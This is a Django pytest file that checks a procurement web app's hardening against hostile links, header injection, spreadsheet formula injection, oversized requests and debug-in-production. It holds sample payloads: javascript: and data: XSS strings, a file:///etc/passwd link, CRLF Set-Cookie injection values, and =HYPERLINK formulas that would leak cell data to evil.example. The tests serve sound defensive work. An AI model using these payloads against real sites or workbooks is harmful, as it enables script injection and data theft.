"""The web's holes closed (issue 18, findings 7 to 9): links, downloads, headers, sizes, roles, errors.

Pia (``procurer``) builds tenders at Rijkswaterstaat, where Vera (``viewer``) only reads; Sam
(``secretary``) imports framework versions; an anonymous supplier holds an upload link.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from pydantic import ValidationError

from cfit.accounts.models import Membership, Organisation
from cfit.criteria import content
from cfit.criteria.models import Criterion, Shortlist
from cfit.criteria.templatetags.criteria_tags import web_address
from cfit.downloads import keep_cells_as_text, safe_cell, safe_filename
from cfit.middleware import MAX_REQUEST_BYTES
from cfit.offers.actions import issue_upload_link
from cfit.pact import actions as pact_actions
from cfit.tenders import actions as tender_actions
from cfit.tenders.models import Tender

from .conftest import Persona, make_persona

HOSTILE_LINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https:evil.example",
    "http://exa mple.org/",
]


@pytest.fixture
def viewer(procurer: Persona) -> Persona:
    return make_persona(
        "vera", procurer.organisation.slug, procurer.organisation.type, Membership.Role.VIEWER
    )


def signed_in(persona: Persona) -> Client:
    client = Client()
    client.force_login(persona.user)
    return client


def draft(persona: Persona, reference: str = "HARD-1") -> Tender:
    tender = tender_actions.create_tender(
        persona.organisation, title="Laptops 2027", reference=reference, acting_user=None
    )
    tender_actions.add_lot(tender, product_group="notebooks", quantity=20, acting_user=None)
    return tender


def published(persona: Persona, reference: str = "HARD-1") -> Tender:
    tender = draft(persona, reference)
    tender_actions.set_offers_deadline(tender, timezone.now() + timedelta(days=14), acting_user=None)
    return tender_actions.change_status(tender, "published", acting_user=None)


def with_reference(tender: Tender, reference: str) -> Tender:
    """A reference stored before references were checked (or by another path): outputs must cope."""
    Tender.unscoped.filter(pk=tender.pk).update(reference=reference)
    tender.refresh_from_db()
    return tender


# -- a viewer reads only ----------------------------------------------------------------------------------


def test_a_viewer_cannot_create_a_shortlist_or_add_to_one(procurer, viewer, framework) -> None:
    criterion = Criterion.objects.filter(version=framework).first()
    assert criterion is not None
    with_scope = Organisation.objects.get(pk=procurer.organisation.pk)
    existing = Shortlist.unscoped.create(organisation=with_scope, name="Laptops")
    client = signed_in(viewer)
    page = client.get(criterion.get_absolute_url()).content.decode()
    assert "Add to a shortlist" not in page

    url = f"/criteria/{criterion.code}/shortlist/"
    new = client.post(url, {"shortlist": "new", "organisation": procurer.organisation.slug, "name": "Mine"})
    added = client.post(url, {"shortlist": str(existing.pk)})

    assert (new.status_code, added.status_code) == (403, 403)
    assert list(Shortlist.unscoped.filter(organisation=with_scope)) == [existing]
    assert not existing.criteria.exists()


def test_a_procurer_still_adds_criteria_to_a_shortlist(procurer, framework) -> None:
    criterion = Criterion.objects.filter(version=framework).first()
    assert criterion is not None
    client = signed_in(procurer)
    assert "Add to a shortlist" in client.get(criterion.get_absolute_url()).content.decode()
    response = client.post(
        f"/criteria/{criterion.code}/shortlist/",
        {"shortlist": "new", "organisation": procurer.organisation.slug, "name": "Mine"},
    )
    assert response.status_code == 302
    shortlist = Shortlist.unscoped.get(organisation=procurer.organisation)
    assert list(shortlist.criteria.all()) == [criterion]


# -- domain refusals are 4xx, not server errors ---------------------------------------------------------


def test_publishing_a_published_tender_again_is_a_clear_refusal(procurer, framework) -> None:
    tender = published(procurer)
    client = signed_in(procurer)
    api = client.post(
        f"/api/v1/tenders/{tender.pk}/status", {"status": "published"}, content_type="application/json"
    )
    assert api.status_code == 400
    assert "already" in api.json()["detail"]

    page = client.post(f"/tenders/{tender.pk}/status/", {"status": "published"}, follow=True)
    assert page.status_code == 200
    assert "already" in page.content.decode()


def test_changing_a_published_tenders_criteria_through_the_api_is_a_400(procurer, framework) -> None:
    tender = published(procurer)
    response = signed_in(procurer).put(
        f"/api/v1/tenders/{tender.pk}/lots/1/costs",
        {"energy_price": "0.3"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "frozen" in response.json()["detail"]


def test_a_reference_with_a_line_break_is_refused(procurer, framework) -> None:
    response = signed_in(procurer).post(
        "/api/v1/tenders/",
        {
            "organisation": procurer.organisation.slug,
            "title": "Laptops",
            "reference": "A\r\nSet-Cookie: x=1",
            "lots": [{"product_group": "notebooks"}],
        },
        content_type="application/json",
    )
    assert response.status_code == 400
    assert not Tender.unscoped.exists()


# -- links: http(s) only, on input and on the page --------------------------------------------------------


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_a_framework_source_or_label_refuses_a_link_that_is_no_web_address(link: str) -> None:
    with pytest.raises(ValidationError, match="web address"):
        content.Source(title="Hostile source", url=link)
    with pytest.raises(ValidationError, match="web address"):
        content.Label(id="hostile", name="Hostile", issuer="x", url=link)
    assert web_address(link) == ""


def test_web_addresses_pass_trimmed() -> None:
    assert content.Source(title="EU GPP", url=" https://ec.europa.eu/gpp ").url == "https://ec.europa.eu/gpp"
    assert content.Source(title="EU GPP", url="").url == ""
    assert web_address("HTTPS://example.org/a?b=c") == "HTTPS://example.org/a?b=c"


@given(st.text(max_size=40))
def test_only_http_and_https_addresses_are_ever_rendered_as_links(text: str) -> None:
    rendered = web_address(text)
    assert rendered == "" or re.match(r"(?i)^https?://[^\s]+$", rendered)


def test_an_imported_javascript_source_never_becomes_a_link_on_the_criterion_page(framework) -> None:
    criterion = Criterion.objects.filter(version=framework).first()
    assert criterion is not None
    # A link stored before the check (or written around it) is still shown as plain text.
    Criterion.objects.filter(pk=criterion.pk).update(
        sources=[{"title": "Hostile source", "url": "JaVaScRiPt:alert(1)", "ref": ""}]
    )
    page = Client().get(criterion.get_absolute_url()).content.decode()
    assert "Hostile source" in page
    assert "alert(1)" not in page


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "ftp://files.example/x"])
def test_a_working_group_document_link_must_be_a_web_address(coordinator, link: str) -> None:
    from cfit.pact.forms import DocumentForm
    from cfit.pact.models import WorkingGroup

    group = WorkingGroup.objects.create(name="Laptops", slug="laptops", topic="laptops")
    with pytest.raises(pact_actions.PactRuleBroken):
        pact_actions.add_document(group, title="Spec", language="en", user=coordinator.user, url=link)
    form = DocumentForm({"title": "Spec", "language": "en", "url": link})
    assert not form.is_valid()


# -- spreadsheet cells and file names ---------------------------------------------------------------------


@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.startswith("'")


@given(st.text(max_size=200))
def test_a_safe_filename_has_no_separator_control_character_or_quote(name: str) -> None:
    safe = safe_filename(name)
    assert safe and len(safe) <= 150
    assert not any(char in safe for char in '/\\"\r\n\t\x00')


def test_workbook_cells_stay_text() -> None:
    book = Workbook()
    book.active.append(['=HYPERLINK("https://evil.example/?"&B1,"x")', 3, "plain"])
    buffer = io.BytesIO()
    keep_cells_as_text(book).save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("=HYPERLINK")


def test_a_formula_reference_reaches_the_supplier_workbook_as_text(procurer, framework) -> None:
    tender = with_reference(published(procurer), '=HYPERLINK("https://evil.example/?"&A1,"Open")')
    link = issue_upload_link(tender, "Rival BV", acting_user=procurer.user)
    response = Client().get(f"/offers/upload/{link.token}/template.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename")
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    meta = {row[0].value: row[1].value for row in book["_cfit"].iter_rows()}
    assert meta["tender_reference"] == tender.reference  # read back unchanged by the offer import


@pytest.mark.parametrize("reference", ["A\r\nSet-Cookie: x=1", 'Q"1;/..\\x', "Lyon-Écoles-2027"])
def test_every_download_of_a_tender_survives_any_reference(procurer, framework, reference: str) -> None:
    tender = with_reference(published(procurer), reference)
    client = signed_in(procurer)
    tender_actions_ = [
        f"/tenders/{tender.pk}/download/xlsx-template/",
        f"/tenders/{tender.pk}/download/ocds/",
        f"/api/v1/tenders/{tender.pk}/export?format=eforms",
    ]
    Tender.unscoped.filter(pk=tender.pk).update(offers_deadline=timezone.now() - timedelta(seconds=1))
    tender_actions_ += [
        f"/tenders/{tender.pk}/offers/report.xlsx",
        f"/tenders/{tender.pk}/offers/report.docx",
    ]
    for url in tender_actions_:
        response = client.get(url)
        assert response.status_code == 200, url
        disposition = response["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition
        assert disposition.startswith("attachment; filename")
        assert "Set-Cookie" not in response.headers or "x=1" not in response.headers["Set-Cookie"]


# -- headers ----------------------------------------------------------------------------------------------


def test_every_page_carries_a_content_security_policy_without_inline_scripts(framework) -> None:
    response = Client().get("/")
    policy = response["Content-Security-Policy"]
    assert (
        "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    )
    assert "frame-ancestors 'none'" in policy
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    page = response.content.decode()
    assert not re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)", page)
    assert not re.search(r"\son[a-z]+=", page)


def test_the_api_docs_page_runs_under_the_policy(db) -> None:
    response = Client().get("/api/docs")
    assert response.status_code == 200
    assert "Content-Security-Policy" in response
    page = response.content.decode()
    # Only scripts from our own static files (Swagger UI is served locally) and JSON data blocks.
    for tag in re.findall(r"<script[^>]*>", page):
        assert 'src="/static/' in tag or "application/json" in tag, tag
    assert Client().get("/api/openapi.json").status_code == 200


# -- request size -----------------------------------------------------------------------------------------


def test_an_oversized_request_is_refused_before_it_is_read(procurer, framework, tmp_path, settings) -> None:
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    tender = published(procurer)
    link = issue_upload_link(tender, "Rival BV", acting_user=procurer.user)
    anonymous = Client()
    small = io.BytesIO(b"x" * 1000)
    small.name = "offer.xlsx"
    # The body is small, but it declares 1 GB: refused on the header alone.
    response = anonymous.post(f"/offers/upload/{link.token}/", {"file": small}, CONTENT_LENGTH=str(1024**3))
    assert response.status_code == 413
    assert list(tmp_path.iterdir()) == []
    api = signed_in(procurer).post(
        "/api/v1/tenders/", b"{}", content_type="application/json", CONTENT_LENGTH=str(MAX_REQUEST_BYTES + 1)
    )
    assert api.status_code == 413
    assert "larger than" in api.json()["detail"]
    assert anonymous.get(f"/offers/upload/{link.token}/").status_code == 200


def test_a_request_just_under_the_cap_reaches_the_view(procurer, framework) -> None:
    tender = published(procurer)
    link = issue_upload_link(tender, "Rival BV", acting_user=procurer.user)
    upload = io.BytesIO(b"not a workbook")
    upload.name = "offer.xlsx"
    response = Client().post(f"/offers/upload/{link.token}/", {"file": upload})
    assert response.status_code in {200, 302}


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/criteria?impact_category=%C3%85%0F6%00c&type=x",  # found by schemathesis on PostgreSQL
        "/criteria/?q=%00",
        "/results/?scope=%00",
    ],
)
def test_a_nul_in_the_address_is_a_400_not_a_database_error(framework, path: str) -> None:
    response = Client().get(path)
    assert response.status_code == 400
    assert b"NUL" in response.content


# -- no debug in production -------------------------------------------------------------------------------


def test_production_refuses_to_start_with_debug_on(tmp_path) -> None:
    env = {
        "DJANGO_ENV": "production",
        "DJANGO_DEBUG": "true",
        "SECRET_KEY": "x" * 60,
        "CFIT_SITE_URL": "https://cfit.example.org",
        "CFIT_DATA_DIR": str(tmp_path),
        "STATIC_ROOT": str(tmp_path / "static"),
        "PATH": "/usr/bin:/bin",
    }
    result = subprocess.run(
        [sys.executable, "-c", "import django; from django.conf import settings; settings.DEBUG"],
        env={**env, "DJANGO_SETTINGS_MODULE": "cfit.settings"},
        capture_output=True,
        text=True,
    )
    assert result.returncode != 0
    assert "DJANGO_DEBUG cannot be on in production" in result.stderr
    off = subprocess.run(
        [sys.executable, "-c", "from django.conf import settings; print(settings.DEBUG)"],
        env={k: v for k, v in env.items() if k != "DJANGO_DEBUG"}
        | {"DJANGO_SETTINGS_MODULE": "cfit.settings"},
        capture_output=True,
        text=True,
    )
    assert off.stdout.strip() == "False", off.stderr


def test_links_stored_before_the_check_are_blanked_by_the_migration(framework) -> None:
    import importlib

    from django.apps import apps

    from cfit.criteria.models import Label

    migration = importlib.import_module("cfit.criteria.migrations.0004_web_addresses_only")
    criterion = Criterion.objects.filter(version=framework).first()
    assert criterion is not None
    good = {"title": "EU GPP", "url": "https://ec.europa.eu/gpp", "ref": ""}
    Criterion.objects.filter(pk=criterion.pk).update(
        sources=[good, {"title": "Hostile", "url": " javascript:alert(1)", "ref": ""}]
    )
    label = Label.objects.create(code="hostile", name="Hostile", url="data:text/html,x")

    migration.blank_other_schemes(apps, None)

    criterion.refresh_from_db()
    label.refresh_from_db()
    assert criterion.sources == [good, {"title": "Hostile", "url": "", "ref": ""}]
    assert label.url == ""


@pytest.mark.parametrize("link", ["javascript:alert(1)", "  JaVaScRiPt:alert(1)", "data:text/html,x"])
def test_a_criteria_import_with_a_hostile_source_link_is_refused_naming_the_place(
    framework_content: content.Framework, link: str
) -> None:
    import json

    from cfit.criteria import exchange
    from cfit.uploads import ImportRefused

    document = exchange.framework_to_json(framework_content)
    document["criteria"][0]["sources"][0]["url"] = link
    with pytest.raises(ImportRefused) as refused:
        exchange.parse_import(json.dumps(document).encode(), "edited.json", framework_content)
    problems = [str(p) for p in refused.value.problems]
    assert any("web address" in p and document["criteria"][0]["id"] in p for p in problems), problems


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/fleet/rijkswaterstaat/import/", 200),  # a national register is larger than other imports
        ("/api/v1/fleet/rijkswaterstaat/assets/import", 200),
        ("/api/v1/impact/fleet", 200),
        ("/offers/upload/abc/", 413),
        ("/api/v1/criteria", 413),
    ],
)
def test_the_register_limit_applies_where_a_register_is_sent_and_nowhere_else(
    path: str, expected: int
) -> None:
    from django.http import HttpResponse
    from django.test import RequestFactory

    from cfit.middleware import RequestSizeLimitMiddleware

    request = RequestFactory().post(path, CONTENT_LENGTH=str(60 * 1024 * 1024))
    response = RequestSizeLimitMiddleware(lambda request: HttpResponse("reached the view"))(request)

    assert response.status_code == expected


def test_the_favicon_answers_where_browsers_look_for_it(db) -> None:
    response = Client().get("/favicon.ico")
    assert response.status_code == 301
    assert response["Location"].endswith("favicon.svg")
